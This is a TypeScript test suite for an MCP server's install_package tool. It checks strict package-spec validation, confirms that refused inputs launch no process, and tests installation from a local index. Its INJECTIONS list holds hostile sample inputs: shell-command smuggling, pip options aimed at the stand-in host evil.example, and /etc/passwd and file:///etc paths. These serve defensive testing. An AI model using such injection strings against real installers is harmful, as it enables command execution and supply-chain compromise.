import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { execFileSync } from "node:child_process";
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import type { RunningServer } from "../src/http/node-server.js";
import {
  checkPackageSpec,
  installPackage,
  PackageInstallError,
  PackageSpecError,
} from "../src/workspace/packages.js";
import { call, connectClient, startTestServer, textOf } from "./support/harness.js";
import { buildWheel } from "./support/wheel.js";

// install_package: strict spec check, no shell, pip into a kernel-only path, clear errors.
const INJECTIONS = [
  "numpy; touch /tmp/jmcp-injected",
  "numpy && touch /tmp/jmcp-injected",
  "numpy|touch /tmp/jmcp-injected",
  "$(touch /tmp/jmcp-injected)",
  "`touch /tmp/jmcp-injected`",
  "--index-url=http://evil.example/simple",
  "-i http://evil.example/simple numpy",
  "-r /etc/passwd",
  "-e git+https://evil.example/x.git",
  "x @ file:///etc",
  "x@file:///etc",
  "https://evil.example/x.whl",
  "./local-dir",
  "/tmp/x.whl",
  "numpy\n--index-url=http://evil.example",
  "numpy ==1.0",
  " numpy",
  "numpy\u0000",
  'numpy; python_version>"3"',
  "numpy[a;b]",
  "",
];

let pipAvailable = "";
beforeAll(() => {
  try {
    pipAvailable = execFileSync("/usr/bin/python3", ["-m", "pip", "--version"], { encoding: "utf8" });
  } catch {
    pipAvailable = "";
  }
});

describe("package specs", () => {
  test("names, extras and version clauses are accepted", () => {
    for (const spec of [
      "requests",
      "pandas==2.2.3",
      "httpx[http2]>=0.27,<1",
      "zope.interface",
      "a_b-c~=1.4.2",
      "x===1.0+local",
    ]) {
      expect(checkPackageSpec(spec)).toBe(spec);
    }
  });

  test("URLs, paths, options, markers, whitespace and shell syntax are refused", () => {
    for (const spec of INJECTIONS) expect(() => checkPackageSpec(spec)).toThrow(PackageSpecError);
  });

  test("a refused spec never starts a process; a missing pip says how to get it", async () => {
    const dir = mkdtempSync(path.join(tmpdir(), "jmcp-pip-"));
    const log = path.join(dir, "calls.log");
    const fakePython = path.join(dir, "python3");
    // A stand-in Python without pip that records every invocation.
    writeFileSync(fakePython, `#!/bin/sh\necho "$@" >> ${JSON.stringify(log)}\nexit 1\n`);
    chmodSync(fakePython, 0o755);
    const options = { python: fakePython, target: path.join(dir, "site"), env: { PATH: "/usr/bin:/bin" } };
    for (const spec of INJECTIONS) {
      await expect(installPackage(spec, options)).rejects.toThrow(PackageSpecError);
    }
    expect(existsSync(log)).toBe(false);
    const missing = installPackage("requests", options);
    await expect(missing).rejects.toThrow(PackageInstallError);
    await expect(missing).rejects.toThrow(/apt-get install -y python3-pip/);
    expect(readFileSync(log, "utf8").trim()).toBe("-m pip --version");
    rmSync(dir, { recursive: true, force: true });
  });
});

describe("install_package over MCP", () => {
  let server: RunningServer;
  let client: Client;
  const saved: Record<string, string | undefined> = {};
  const pipEnv = (wheels: string, port: number) => ({
    // Only these reach pip and the kernel (KERNEL_ENV_PASSTHROUGH); /etc/pip.conf is ignored so the
    // test does not depend on this machine's pip configuration.
    PIP_CONFIG_FILE: "/dev/null",
    PIP_INDEX_URL: `http://127.0.0.1:${port}/simple`,
    PIP_FIND_LINKS: wheels,
  });

  beforeAll(async () => {
    if (!pipAvailable) {
      throw new Error("These tests need pip for /usr/bin/python3: apt-get install -y python3-pip");
    }
    const wheels = mkdtempSync(path.join(tmpdir(), "jmcp-wheels-"));
    buildWheel(wheels, "jmcp_demo", 42);
    const env = pipEnv(wheels, await closedPort());
    for (const [k, v] of Object.entries(env)) {
      saved[k] = process.env[k];
      process.env[k] = v;
    }
    server = await startTestServer({ KERNEL_ENV_PASSTHROUGH: Object.keys(env).join(",") });
    client = await connectClient(server.url);
  });

  afterAll(async () => {
    await client?.close();
    await server?.close();
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  test("injection attempts run nothing and return a clear error", async () => {
    rmSync("/tmp/jmcp-injected", { force: true });
    for (const spec of INJECTIONS.filter((s) => s !== "")) {
      const result = await call(client, "install_package", { package: spec });
      expect([spec, result.isError]).toEqual([spec, true]);
      expect([spec, textOf(result)]).toEqual([
        spec,
        expect.stringMatching(/not a package spec this tool accepts/),
      ]);
    }
    expect(existsSync("/tmp/jmcp-injected")).toBe(false);
  });

  test("a package from a reachable source installs and imports without a kernel restart", async () => {
    const result = await call(client, "install_package", { package: "jmcp_demo==1.0" });
    expect([textOf(result), result.isError]).toEqual([
      expect.stringContaining("Installed jmcp_demo==1.0"),
      undefined,
    ]);
    const imported = await call(client, "execute_code", { code: "import jmcp_demo\njmcp_demo.VALUE" });
    expect(textOf(imported)).toMatch(/Out\[\d+\]: 42/);
    expect(
      existsSync(path.join(server.runtime.workspace(undefined).sitePackages, "jmcp_demo", "__init__.py")),
    ).toBe(true);
  });

  test("without a reachable package index the error says so", async () => {
    const started = Date.now();
    const result = await call(client, "install_package", { package: "surely-not-on-any-mirror-jmcp" });
    expect(result.isError).toBe(true);
    expect(textOf(result)).toMatch(/no package index is reachable/);
    expect(textOf(result)).toMatch(/PIP_INDEX_URL/);
    expect(Date.now() - started).toBeLessThan(60_000);
  });
});

function closedPort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const srv = net.createServer();
    srv.once("error", reject);
    srv.listen(0, "127.0.0.1", () => {
      const { port } = srv.address() as net.AddressInfo;
      srv.close(() => resolve(port));
    });
  });
}
